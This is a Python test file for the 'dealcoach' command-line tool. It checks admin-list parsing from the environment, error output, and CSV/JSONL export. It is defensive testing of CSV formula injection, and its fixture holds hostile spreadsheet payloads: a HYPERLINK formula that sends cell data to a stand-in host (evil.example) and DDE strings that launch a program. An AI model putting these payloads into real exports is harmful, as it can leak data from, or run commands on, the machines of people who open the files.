"""Ops items of issue #11 and #18 through the real `dealcoach` command (subprocesses with
the environment an operator would set): DEALCOACH_ADMINS forms, CSV export cells, digest
week words, `chat` at end of input, progress/summary lines on stderr."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

CLI = [sys.executable, "-c", "from dealcoach.cli import main; main()"]


def _env(tmp_path: Path, url: str | None = None, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DEALCOACH_", "SLACK_"))}
    env["DATABASE_URL"] = url or f"sqlite:///{tmp_path / 'dealcoach.db'}"
    env["HOME"] = str(tmp_path)
    env.update(extra)
    return env


def run_cli(
    args: list[str], tmp_path: Path, *, url: str | None = None, stdin: str = "", **extra: str
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        CLI + args,
        input=stdin,
        capture_output=True,
        text=True,
        env=_env(tmp_path, url, **extra),
        cwd=tmp_path,
        timeout=120,
    )


# --- #11 item 6: DEALCOACH_ADMINS --------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("U1,U2", ["U1", "U2"]),
        ("U1", ["U1"]),
        ("", []),
        (" U1 , ,U2 ", ["U1", "U2"]),
        ('["U1", "U2"]', ["U1", "U2"]),
    ],
)
def test_dealcoach_admins_from_the_environment(
    tmp_path: Path, value: str, expected: list[str]
) -> None:
    # Every command reads the settings: `db current` must run, not crash with a traceback.
    done = run_cli(["db", "current"], tmp_path, DEALCOACH_ADMINS=value)
    assert "Traceback" not in done.stderr, done.stderr[-2000:]
    assert done.returncode == 0, done.stderr
    # …and the value is what the docs promise.
    probe = subprocess.run(
        [
            sys.executable,
            "-c",
            "from dealcoach.config import Settings; print(Settings().dealcoach_admins)",
        ],
        capture_output=True,
        text=True,
        env=_env(tmp_path, DEALCOACH_ADMINS=value),
        cwd=tmp_path,
        timeout=60,
    )
    assert probe.returncode == 0, probe.stderr[-2000:]
    assert probe.stdout.strip() == repr(expected)


def test_a_broken_json_admins_list_is_one_line(tmp_path: Path) -> None:
    done = run_cli(["db", "current"], tmp_path, DEALCOACH_ADMINS='["U1",')
    assert "Traceback" not in done.stderr
    assert done.returncode == 2
    assert len(done.stderr.strip().splitlines()) == 1
    assert "DEALCOACH_ADMINS" in done.stderr


# --- #11 item 5: CSV formula injection ----------------------------------------------------------

HOSTILE_ANSWERS = {
    "deal.name": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "deal.account": "\t=cmd|' /C calc'!A0",
    "deal.value": "12.5k",
    "deal.stage": "proposal",
    "fit.need": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fit.requirements_met": "yes",
    "fit.price_market_conform": "yes",
    "agenda.1.who": "\r=1+1",
    "agenda.1.role": "economic_buyer",
    "agenda.1.certainty": "confirmed",
    "benefit.customer_ready": "yes",
    "benefit.customer_wins": "-2+3+cmd|' /C calc'!A0",
    "benefit.we_win": "+1+cmd",
    "benefit.margin": "healthy",
}


def _formula_like(cell: str) -> bool:
    return cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")


def test_csv_export_neutralises_formula_cells_and_jsonl_stays_exact(
    tmp_path: Path, database_url: str
) -> None:
    import csv
    import io
    import json

    assert run_cli(["db", "upgrade"], tmp_path, url=database_url).returncode == 0
    answers = tmp_path / "answers.json"
    answers.write_text(json.dumps(HOSTILE_ANSWERS), encoding="utf-8")
    done = run_cli(
        ["chat", "--answers", str(answers), "--json", "--user=@evil"], tmp_path, url=database_url
    )
    assert done.returncode == 0, done.stderr

    exported = run_cli(["export", "--format", "csv"], tmp_path, url=database_url)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert len(rows) == 1
    row = rows[0]
    offending = {k: v for k, v in row.items() if _formula_like(v)}
    assert offending == {}, offending
    assert row["deal_name"] == "'" + HOSTILE_ANSWERS["deal.name"]
    assert row["answer:fit.need"] == "'" + HOSTILE_ANSWERS["fit.need"]
    assert row["answer:benefit.we_win"] == "'+1+cmd"
    assert row["user_id"] == "'@evil"
    # numbers stay numbers
    assert row["deal_value"] == "12500"
    assert row["answer:deal.value"] == "12500"

    jsonl = run_cli(["export", "--format", "jsonl"], tmp_path, url=database_url)
    assert jsonl.returncode == 0, jsonl.stderr
    record = json.loads(jsonl.stdout.splitlines()[0])
    assert record["deal"]["name"] == HOSTILE_ANSWERS["deal.name"]
    assert record["answers"]["fit.need"] == HOSTILE_ANSWERS["fit.need"]
    assert record["user"]["id"] == "@evil"


def test_csv_cells_numbers_stay_numbers_text_is_neutralised() -> None:
    from dealcoach.services.export import _cell

    assert _cell(-5000.0) == -5000  # a negative deal value is a number, not text
    assert _cell(-12.5) == -12.5
    assert _cell(7) == 7
    assert _cell("-5") == "-5"  # a plain number typed as text is no formula
    assert _cell("-5+A1") == "'-5+A1"
    assert _cell(" =1+1") == "' =1+1"
    assert _cell("\n@x") == "'\n@x"
    assert _cell(["=a", "b"]) == "'=a;b"
    assert _cell("Acme - rollout") == "Acme - rollout"
